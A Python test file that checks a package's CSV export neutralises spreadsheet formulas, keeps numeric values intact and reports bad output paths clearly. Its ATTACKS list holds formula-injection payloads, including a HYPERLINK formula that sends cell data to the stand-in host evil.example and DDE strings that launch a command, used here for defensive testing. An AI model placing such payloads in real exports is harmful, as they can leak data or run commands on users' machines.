"""CSV exports neutralise spreadsheet formulas (numbers kept); output paths fail as bad input."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from eventstudy.exceptions import EventStudyError, OutputPathError
from eventstudy.report.files import (
    FORMULA_PREFIXES,
    neutralize_formulas,
    output_dir,
    output_file,
    write_csv,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_cells_get_a_quote(tmp_path: Path, attack: str) -> None:
    frame = pd.DataFrame({"title": [attack, "白酒"], "car": [-0.0123, 0.5]})
    rows = _cells(write_csv(frame, tmp_path / "t.csv"))
    assert rows[1][0] == "'" + attack.replace("\r", "\n")  # a bare CR would split the row
    assert rows[1][1] == "-0.0123"
    assert rows[2][0] == "白酒"
    assert not rows[1][0].startswith(FORMULA_PREFIXES)


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "car": [-0.0123, -1.5],
            "n": pd.array([-3, 4], dtype="Int64"),
            "text_number": ["-0.5", "+2.1%"],  # plain numbers in a text column: no formula
            "day0": pd.to_datetime(["2022-01-10", "2022-01-11"]),
        }
    )
    rows = _cells(write_csv(frame, tmp_path / "t.csv"))
    assert rows[1][:3] == ["-0.0123", "-3", "-0.5"]
    assert rows[2][:3] == ["-1.5", "4", "+2.1%"]
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["car"].tolist() == [-0.0123, -1.5]


def test_column_names_index_string_and_category_dtypes() -> None:
    frame = pd.DataFrame(
        {
            "=evil": pd.array(["=1", "ok"], dtype="string"),
            "cat": pd.Categorical(["@x", "ok"]),
            "obj": [None, "-cmd"],
        },
        index=pd.Index(["+a", "b"]),
    )
    out = neutralize_formulas(frame)
    assert list(out.columns) == ["'=evil", "cat", "obj"]
    assert out.iloc[:, 0].tolist() == ["'=1", "ok"]
    assert out["cat"].astype(str).tolist() == ["'@x", "ok"]
    assert out["obj"].tolist()[1] == "'-cmd"
    assert pd.isna(out["obj"].tolist()[0])
    assert out.index.tolist() == ["'+a", "b"]
    assert frame.columns[0] == "=evil"  # the input is not modified


def test_duplicate_column_names_are_handled_by_position() -> None:
    frame = pd.DataFrame([["=a", "=b"]], columns=["x", "x"])
    assert neutralize_formulas(frame).values.tolist() == [["'=a", "'=b"]]


def test_a_clean_frame_is_returned_as_it_is() -> None:
    frame = pd.DataFrame({"title": ["白酒"], "car": [-0.1]})
    assert neutralize_formulas(frame) is frame


def test_output_dir_that_is_a_file(tmp_path: Path) -> None:
    target = tmp_path / "afile"
    target.write_text("x")
    with pytest.raises(OutputPathError, match=r"'.*afile': it is a file, not a folder; give"):
        output_dir(target)
    with pytest.raises(OutputPathError, match="is a file, not a folder"):
        output_dir(target / "sub")


def test_output_dir_without_permission(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # simulated: the tests may run as root, who can write anywhere
    def deny(self: Path, *args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied", str(self))

    monkeypatch.setattr(Path, "mkdir", deny)
    with pytest.raises(OutputPathError, match="permission denied; choose a place you can write"):
        output_dir(tmp_path / "new")


def test_output_file_errors(tmp_path: Path) -> None:
    (tmp_path / "afolder.csv").mkdir()
    with pytest.raises(OutputPathError, match="is a folder, not a file"):
        output_file(tmp_path / "afolder.csv")
    with pytest.raises(OutputPathError, match="its folder does not exist"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / "missing" / "t.csv")
    assert issubclass(OutputPathError, EventStudyError)
    assert issubclass(OutputPathError, OSError)
